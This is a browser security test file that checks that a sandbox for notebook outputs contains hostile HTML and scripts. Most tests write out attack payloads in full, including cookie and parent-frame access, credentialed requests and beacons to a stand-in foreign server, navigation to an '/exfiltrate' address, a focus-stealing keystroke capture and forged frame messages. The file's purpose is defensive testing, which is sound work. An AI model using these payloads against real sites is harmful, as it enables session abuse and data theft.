// What HTML and scripts of outputs try, in a real browser with the cookie of a
// person who is logged in. Each test first shows that its attack did run.
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { html, until } from "../lib";
import { attack, type Scene, Stage } from "./stage";

const stage = new Stage();
let scene: Scene | undefined;

beforeAll(() => stage.open());
afterAll(() => stage.close());
afterEach(async () => {
  await scene?.end();
  scene = undefined;
});

async function perform(...outputs: ReturnType<typeof html>[]): Promise<Scene> {
  scene = await stage.perform([{ code: "attack()", outputs }]);
  return scene;
}

describe("reaching the page", () => {
  test("parent, top, opener and the frame element are out of reach", async () => {
    const s = await perform(
      attack(`
        await attempt("parent document", () => parent.document.title);
        await attempt("top location", () => top.location.href);
        await attempt("parent storage", () => parent.localStorage.length);
        await attempt("parent variable", () => { parent.pwned = 1; return "set"; });
        await attempt("parent function", () => parent.eval("pwned = 1"));
        outcome.opener = String(window.opener);
        outcome.element = String(window.frameElement);
        outcome.origin = self.origin;
      `),
    );
    expect(await s.results()).toEqual({
      "parent document": "threw: SecurityError",
      "top location": "threw: SecurityError",
      "parent storage": "threw: SecurityError",
      "parent variable": "threw: SecurityError",
      "parent function": "threw: SecurityError",
      opener: "null",
      element: "null",
      origin: "null",
    });
    await s.unharmed();
  });

  test("cookies, storage, caches and workers are not there", async () => {
    const s = await perform(
      attack(`
        await attempt("read cookie", () => document.cookie);
        await attempt("write cookie", () => (document.cookie = "a=b"));
        await attempt("localStorage", () => localStorage.setItem("a", "b"));
        await attempt("sessionStorage", () => sessionStorage.setItem("a", "b"));
        await attempt("indexedDB", () => new Promise((y, n) => { const r = indexedDB.open("a"); r.onsuccess = y; r.onerror = () => n(r.error); }));
        await attempt("caches", () => caches.open("a"));
        await attempt("service worker", () => navigator.serviceWorker.register("/frame/vega.js"));
        await attempt("worker", () => new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = y; w.onerror = () => n(new DOMException("", "SecurityError")); }));
      `),
    );
    for (const [name, outcome] of Object.entries(await s.results())) {
      expect(outcome, name).toMatch(/^threw: /);
    }
    await s.unharmed();
  });

  test("scripts, handlers and inline events run in the frame and nowhere else", async () => {
    const s = await perform(
      html(`<script>window.pwned = "script"</script><img src="data:," onerror="window.pwned += ' onerror'">
        <svg onload="window.pwned += ' onload'"></svg><details open ontoggle="window.pwned += ' toggle'"><summary>x</summary></details>`),
    );
    const seen = await until("the handlers", async () => {
      for (const frame of s.page.frames().filter((f) => f.url().includes("/frame/"))) {
        const pwned = await frame.evaluate(() => (window as { pwned?: string }).pwned).catch(() => undefined);
        if (pwned?.includes("toggle") && pwned.includes("onerror")) return pwned;
      }
      return undefined;
    });
    expect(seen).toContain("script");
    await s.unharmed();
  });

  test("markup that closes its surroundings stays where it is", async () => {
    const s = await perform(
      html(`</script></style></body></html></iframe></div></section><style>body,:root,#root{display:none!important}
        @import url("${stage.foreign.url}/import.css");</style><h1 id="after">after</h1>`),
      html(
        `<style>*{background:url(${stage.foreign.url}/bg)!important} @font-face{font-family:x;src:url(${stage.foreign.url}/font)} p{font-family:x}</style><p id="second">x</p>`,
      ),
      attack("outcome.ran = 'yes';"),
    );
    expect(await s.results()).toEqual({ ran: "yes" });
    await s.note(/localhost/);
    expect(await s.page.locator("#after, #second").count()).toBe(0); // in the page's own document
    expect(await s.page.locator("[role=group][aria-label=Outputs]").first().isVisible()).toBe(true);
    await s.unharmed();
  });
});

describe("talking to the server and to others", () => {
  test("fetch, XHR, beacons, sockets and event streams", async () => {
    const s = await perform(
      attack(`
        const here = location.origin === "null" ? new URL(location.href).origin : location.origin;
        await attempt("fetch", async () => (await fetch(here + "/v1/sessions", { credentials: "include" })).status);
        await attempt("post", async () => (await fetch(here + "/v1/sessions", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" })).type);
        await attempt("foreign", async () => (await fetch("${stage.foreign.url}/fetch", { mode: "no-cors" })).type);
        await attempt("xhr", () => new Promise((y, n) => { const x = new XMLHttpRequest(); x.onload = y; x.onerror = () => n(new TypeError()); x.open("POST", here + "/v1/sessions"); x.withCredentials = true; x.send("{}"); }));
        outcome.beacon = String(navigator.sendBeacon("${stage.foreign.url}/beacon", "x"));
        await attempt("socket", () => new Promise((y, n) => { const w = new WebSocket("${stage.foreign.url.replace("http", "ws")}/ws"); w.onopen = y; w.onerror = () => n(new TypeError()); }));
        await attempt("events", () => new Promise((y, n) => { const e = new EventSource(here + "/v1/sessions"); e.onopen = y; e.onerror = () => n(new TypeError()); }));
        await attempt("import", () => import("${stage.foreign.url}/module.js"));
      `),
    );
    const results = await s.results();
    for (const name of ["fetch", "post", "foreign", "xhr", "socket", "events", "import"]) {
      expect(results[name], name).toMatch(/^threw: /);
    }
    await s.note(/wanted to load/);
    await s.unharmed();
  });

  test("everything that loads by itself: images, styles, media, frames, objects, hints", async () => {
    const at = (name: string) => `${stage.foreign.url}/${name}`;
    const s = await perform(
      html(`<img src="${at("img")}"><img srcset="${at("srcset")} 1x"><picture><source srcset="${at("source")}"><img></picture>
        <link rel="stylesheet" href="${at("css")}"><link rel="preload" as="image" href="${at("preload")}"><link rel="prefetch" href="${at("prefetch")}">
        <link rel="modulepreload" href="${at("modulepreload")}"><link rel="preconnect" href="${at("")}"><link rel="dns-prefetch" href="${at("")}">
        <link rel="icon" href="${at("icon")}"><link rel="manifest" href="${at("manifest")}"><link rel="prerender" href="${at("prerender")}">
        <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at("speculation")}"]}],"prerender":[{"source":"list","urls":["${at("prerender2")}"]}]}</script>
        <video src="${at("video")}" autoplay poster="${at("poster")}"></video><audio src="${at("audio")}" autoplay></audio>
        <iframe src="${at("iframe")}"></iframe><iframe srcdoc="<img src='${at("srcdoc")}'>"></iframe><object data="${at("object")}"></object><embed src="${at("embed")}">
        <body background="${at("background")}"><div style="background:url(${at("style")})">x</div><script src="${at("script")}"></script>
        <svg><image href="${at("svgimage")}"/><use href="${at("use")}#a"/></svg><table background="${at("table")}"><tr><td>x</table>
        <base href="${at("base")}/"><img src="relative"><input type=image src="${at("input")}"><link rel="dns-prefetch" href="//x.invalid">`),
      attack(`
        const images = ["a", "b"].map((n) => Object.assign(new Image(), { src: "${stage.foreign.url}/made-" + n }));
        await attempt("image", () => new Promise((y, n) => { images[0].onload = y; images[0].onerror = () => n(new TypeError()); }));
      `),
    );
    expect(await s.results()).toEqual({ image: "threw: TypeError" });
    await s.note(/localhost/);
    await s.unharmed();
  });

  test("forms go nowhere, with and without a click", async () => {
    const s = await perform(
      attack(
        `
        outcome.action = document.forms[0].action.slice(-12);
        await attempt("submit", () => { document.forms[0].submit(); return "called"; });
        await attempt("requestSubmit", () => { document.forms[1].requestSubmit(); return "called"; });
        document.forms[0].querySelector("button").click();
      `,
        `<form method=post action="/v1/sessions"><input name=title value=x><button id=send>send</button></form>
         <form method=post action="${stage.foreign.url}/form" target=_blank><input name=a></form>`,
      ),
    );
    expect((await s.results()).action).toBe("/v1/sessions");
    const frame = s.page.frames().find((f) => f.url().includes("/frame/"));
    await frame?.locator("#send").click();
    await s.unharmed();
  });

  test("downloads do not start", async () => {
    const s = await perform(
      attack(`
        for (let i = 0; i < 20; i++) {
          const a = document.createElement("a");
          a.href = URL.createObjectURL(new Blob(["x".repeat(1000)]));
          a.download = "bomb" + i + ".exe";
          document.body.append(a);
          a.click();
        }
        outcome.clicked = "20";
      `),
    );
    expect(await s.results()).toEqual({ clicked: "20" });
    await s.unharmed();
  });

  describe("WebRTC, which the policy does not know", () => {
    const call = () => {
      const at = stage.foreign.url.replace("http://localhost", "127.0.0.1");
      return `(async () => {
        const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${at}" }, { urls: "turn:${at}?transport=tcp", username: "data", credential: "x" }] });
        c.createDataChannel("x");
        await c.setLocalDescription(await c.createOffer());
        await new Promise((done) => setTimeout(done, 2000));
      })()`;
    };

    test("is not there", async () => {
      const s = await perform(attack(`await attempt("here", () => ${call()});`));
      expect(await s.results()).toEqual({ here: "threw: ReferenceError" });
      await s.unharmed();
    });

    test("gets nothing out of a document in the output either", async () => {
      const inner = `<p>inner</p><script>setTimeout(() => ${call()}, 500)</script>`;
      const s = await perform(
        html(`<iframe srcdoc="${inner.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"></iframe>`),
      );
      await until("the inner document", async () =>
        (await Promise.all(s.page.frames().map((f) => f.content().catch(() => "")))).some((t) =>
          t.includes("<p>inner</p>"),
        ),
      );
      // Chromium ends the process of a frame that tries this. The page, which has another, lives on:
      // seen from the server, because the browser's protocol takes the one for the other.
      await s.page.evaluate(() => void setInterval(() => fetch("/health"), 100));
      await new Promise((done) => setTimeout(done, 4000));
      const beats = () => stage.server.log().split("path=/health").length;
      const before = beats();
      await until("more beats", () => beats() > before + 3);
      expect(stage.foreign.heard).toEqual([]);
    });
  });
});

describe("leaving", () => {
  const away = [
    [
      "top.location",
      (u: string) =>
        `<script>setTimeout(() => { try { top.location = "${u}"; } catch {} parent.location.href = "${u}"; }, 0)</script>`,
    ],
    [
      "a link to _top, clicked by script",
      (u: string) => `<a id=l target=_top href="${u}">x</a><script>l.click()</script>`,
    ],
    ["a link to _parent", (u: string) => `<a id=l target=_parent href="${u}">x</a><script>l.click()</script>`],
    [
      "window.open",
      (u: string) => `<script>window.open("${u}"); open("${u}", "_top"); open("${u}", "_parent")</script>`,
    ],
    ["a link to _blank", (u: string) => `<a id=l target=_blank href="${u}">x</a><script>l.click()</script>`],
    ["a form to _top", (u: string) => `<form id=f target=_top action="${u}"></form><script>f.submit()</script>`],
    ["an image map", (u: string) => `<map name=m><area id=a target=_top href="${u}"></map><script>a.click()</script>`],
    [
      "an SVG link",
      (u: string) =>
        `<svg><a id=a target="_top" href="${u}"><text>x</text></a></svg><script>a.dispatchEvent(new MouseEvent("click", {bubbles: true}))</script>`,
    ],
  ] as const;
  for (const [name, make] of away) {
    test(`${name} does not move the page`, async () => {
      const s = await perform(html(make(`${stage.foreign.url}/gone`)), attack("outcome.ran = 'yes';"));
      expect(await s.results()).toEqual({ ran: "yes" });
      await s.unharmed();
    });
  }

  const own = [
    ["location", (u: string) => `<script>location = "${u}"</script>`],
    ["meta refresh", (u: string) => `<meta http-equiv="refresh" content="0;url=${u}">`],
    ["location later", (u: string) => `<script>setTimeout(() => location.replace("${u}"), 300)</script>`],
  ] as const;
  for (const [name, make] of own) {
    test(`${name} to a foreign server: not asked, and the frame is taken away`, async () => {
      const s = await perform(html(`<p>x</p>${make(`${stage.foreign.url}/exfiltrate?data`)}`));
      await s.note(/tried to go to another page/);
      expect(await s.page.locator("iframe").count()).toBe(0);
      await s.unharmed();
    });

    test(`${name} to the API: refused, without the cookie`, async () => {
      const s = await perform(html(`<p>x</p>${make("/v1/sessions")}`));
      await s.note(/tried to go to another page/);
      expect(await s.page.locator("iframe").count()).toBe(0);
      await s.unharmed({ answers: (answer) => /^40[13] /.test(answer) });
    });
  }

  test("the page inside of a frame of an output is refused", async () => {
    const s = await perform(html('<p>x</p><script>location = "/"</script>'));
    await s.note(/tried to go to another page/);
    await s.unharmed({ answers: (answer) => /^40[13] /.test(answer) });
  });

  test("data: and javascript: addresses stay in the frame or end it", async () => {
    const s = await perform(
      html(`<p>x</p><script>location = "data:text/html,<script>parent.postMessage('x','*')<\\/script>"</script>`),
      html(`<script>location = "javascript:window.pwned=1"</script>`),
      attack("outcome.ran = 'yes';"),
    );
    expect(await s.results()).toEqual({ ran: "yes" });
    await s.unharmed();
  });

  test("a link that a person clicks asks first, and shows where it leads", async () => {
    const s = await perform(
      html(
        `<a id=l href="${stage.foreign.url}/clicked">click</a><a id=j href="javascript:parent.pwned=1">j</a><a id=v href="/v1/sessions">v</a>`,
      ),
    );
    const frame = await until("the frame", () => s.page.frames().find((f) => f.url().includes("/frame/")));
    await s.page.mouse.move(5, 5);
    await s.page.locator("iframe").hover();
    await frame.locator("#j").click();
    await frame.locator("#v").click();
    expect(await s.page.getByRole("note").count()).toBe(0);
    await frame.locator("#l").click();
    await s.note(/wants to open/);
    expect(await s.page.getByRole("link", { name: "Open" }).getAttribute("href")).toBe(`${stage.foreign.url}/clicked`);
    expect(await s.page.getByRole("link", { name: "Open" }).getAttribute("rel")).toContain("noopener");
    await s.unharmed();
  });
});

describe("being in the way", () => {
  test("a giant output is as high as the page allows, and can be enlarged by the person alone", async () => {
    const s = await perform(
      attack("outcome.ran = 'yes';", '<div style="width:1e7px;height:1e7px;background:red">giant</div>'),
      html('<div style="position:fixed;inset:-9999px;background:red;z-index:2147483647">cover</div>'),
      html(
        "<style>html,body{width:100000vw;height:100000vh;transform:scale(1000)}</style><dialog open style='position:fixed;inset:0'>x</dialog>",
      ),
    );
    expect(await s.results()).toEqual({ ran: "yes" });
    const heights = () =>
      s.page.locator("iframe").evaluateAll((all) => all.map((f) => f.getBoundingClientRect().height));
    await until("heights", async () => (await heights()).includes(640));
    expect(Math.max(...(await heights()))).toBeLessThanOrEqual(640);
    await s.page.getByRole("button", { name: "Expand" }).first().click();
    await until("the larger height", async () => Math.max(...(await heights())) > 640);
    expect(Math.max(...(await heights()))).toBeLessThanOrEqual(20_000);
    await s.unharmed();
  });

  test("an output that grows without end moves the page a bounded number of times", async () => {
    const s = await perform(
      attack(`
        document.body.innerHTML = '<div id=d style="height:calc(100vh + 40px)">x</div>';
        let n = 0;
        await new Promise((done) => { const t = setInterval(() => { d.style.height = (50 + (n++ % 2) * 300) + "px"; if (n > 300) { clearInterval(t); done(); } }, 5); });
        outcome.changes = String(n);
      `),
    );
    const changes = s.page.evaluate(
      () =>
        new Promise<number>((done) => {
          let count = 0;
          const frame = document.querySelector("iframe")?.parentElement;
          if (!frame) return done(-1);
          new MutationObserver((records) => {
            count += records.length;
          }).observe(frame, { attributes: true, attributeFilter: ["style"] });
          setTimeout(() => done(count), 4000);
        }),
    );
    await s.results();
    expect(await changes).toBeLessThanOrEqual(60);
    await s.unharmed();
  });

  test("dialogs, printing, full screen, pointer lock, notifications, clipboard, sensors", async () => {
    const s = await perform(
      attack(`
        alert(1); confirm(1); prompt(1); print();
        addEventListener("beforeunload", (e) => { e.preventDefault(); e.returnValue = "x"; });
        await attempt("fullscreen", () => document.documentElement.requestFullscreen());
        await attempt("pointer lock", async () => { await document.documentElement.requestPointerLock(); return document.pointerLockElement ? "locked" : (() => { throw new DOMException("", "SecurityError"); })(); });
        await attempt("clipboard read", () => navigator.clipboard.readText());
        await attempt("geolocation", () => new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, () => n(new DOMException("", "NotAllowedError")))));
        await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
        await attempt("notification", async () => { const p = await Notification.requestPermission(); if (p !== "granted") throw new DOMException("", "NotAllowedError"); return p; });
        await attempt("popover", () => { const d = document.createElement("div"); d.popover = "manual"; document.body.append(d); d.showPopover(); return "inside"; });
      `),
    );
    const { popover, ...rest } = await s.results();
    expect(popover).toMatch(/inside/);
    for (const [name, outcome] of Object.entries(rest)) expect(outcome, name).toMatch(/^threw: /);
    await s.unharmed();
  });

  test("what a person types stays where it was typed", async () => {
    const s = await perform(
      html("<p>quiet</p>"),
      attack(
        `
        window.keys = [];
        addEventListener("keydown", (e) => keys.push(e.key));
        const steal = () => { window.focus(); document.querySelector("input").focus(); };
        setInterval(steal, 40);
        outcome.ran = "yes";
      `,
        "<input autofocus>",
      ),
    );
    await s.page.evaluate(() => {
      const field = document.createElement("textarea");
      field.id = "typed";
      field.className = "fixed bottom-0 left-0 z-50";
      document.body.append(field);
    });
    await s.results();
    await s.page.locator("#typed").click();
    const text = "the quick brown fox jumps over the lazy dog and types on for quite a while";
    for (const letter of text) await s.page.keyboard.type(letter, { delay: 15 });
    // What is typed while the focus is taken for the first time may be lost; nothing after that.
    const typed = await s.page.locator("#typed").inputValue();
    expect(typed.length).toBeGreaterThanOrEqual(text.length - 4);
    expect(typed.slice(-60)).toBe(text.slice(-60));
    await s.note(/taking the keyboard/);
    // The other output is not the one that is stopped for it.
    expect(await s.page.frameLocator("iframe").first().locator("p").textContent()).toBe("quiet");
    await s.unharmed();
  });

  test("a loop without end leaves the page answering, and can be stopped", async () => {
    const s = await perform(
      html("<p>x</p><script>setTimeout(() => { for (;;); }, 200)</script>"),
      html("<p>other</p>"),
    );
    for (let i = 0; i < 5; i++) {
      const start = Date.now();
      await s.page.evaluate(() => new Promise((done) => requestAnimationFrame(done)));
      expect(Date.now() - start).toBeLessThan(1000);
      await new Promise((done) => setTimeout(done, 200));
    }
    await s.unharmed();
  });
});

describe("forged messages", () => {
  test("messages to the page's window are not listened to, from a frame and from a frame in it", async () => {
    const s = await perform(
      attack(
        `
        for (let i = 0; i < 50; i++) {
          for (const w of [parent, top]) {
            w.postMessage({ type: "height", height: 99999 }, "*");
            w.postMessage({ type: "link", href: "javascript:pwned=1" }, "*");
            w.postMessage({ caesarion: "frame", nonce: "x" }, "*", [new MessageChannel().port1]);
          }
        }
        outcome.sent = "300";
      `,
        `<iframe srcdoc="<script>for (const w of [parent, top]) w.postMessage({type:'height',height:99999},'*')<\\/script>"></iframe>`,
      ),
    );
    expect(await s.results()).toEqual({ sent: "300" });
    expect(
      await s.page
        .locator("iframe")
        .first()
        .evaluate((f) => f.getBoundingClientRect().height),
    ).toBeLessThanOrEqual(640);
    await s.unharmed();
  });

  test("a stolen channel says nothing that the page obeys", async () => {
    const s = await perform(
      attack(`
        const sent = MessagePort.prototype.postMessage;
        const port = await new Promise((done) => {
          MessagePort.prototype.postMessage = function (...args) { done(this); return sent.apply(this, args); };
          document.body.style.height = "321px"; // the loader tells of it by its port
        });
        const say = (m) => sent.call(port, m);
        say({ type: "height", height: 1e300 });
        say({ type: "height", height: "100vh;position:fixed" });
        for (const href of ["javascript:pwned=1", "data:text/html,x", "/v1/sessions", "//x@y", "file:///etc/passwd"]) say({ type: "link", href });
        say({ type: "blocked", directive: "<img src=x onerror=pwned=1>", what: "<img src=x onerror=pwned=1>" });
        say({ type: "failed" });
        say({ type: "ready", nonce: "guess" });
        say({ type: "snapshot", id: 1, png: new TextEncoder().encode("<script>").buffer });
        for (let i = 0; i < 20000; i++) say({ type: "blocked", directive: "x", what: "https://h" + i + ".invalid/" });
        outcome.sent = "all";
      `),
    );
    expect(await s.results()).toEqual({ sent: "all" });
    expect(await s.page.getByRole("link", { name: "Open" }).count()).toBe(0);
    expect((await s.text()).match(/\.invalid/g)?.length ?? 0).toBeLessThanOrEqual(5);
    expect(await s.page.locator("img[src=x]").count()).toBe(0);
    await s.unharmed();
  });

  test("one output can't speak to or move another", async () => {
    const s = await perform(
      html("<p id=victim>victim</p>"),
      attack(`
        const frames = parent.frames;
        outcome.others = String(frames.length > 1);
        for (let i = 0; i < frames.length; i++) {
          if (frames[i] === window) continue;
          frames[i].postMessage({ caesarion: "frame", nonce: "x", theme: {} }, "*", [new MessageChannel().port1]);
          await attempt("read", () => frames[i].document.body.innerHTML);
          await attempt("move", () => { frames[i].location = "data:text/html,moved"; return "moved"; });
        }
      `),
    );
    const results = await s.results();
    expect(results).toMatchObject({ others: "true", read: "threw: SecurityError" });
    expect(results.move).toMatch(/^threw: SecurityError/);
    expect(await s.page.frameLocator("iframe").first().locator("#victim").textContent()).toBe("victim");
    await s.unharmed();
  });
});
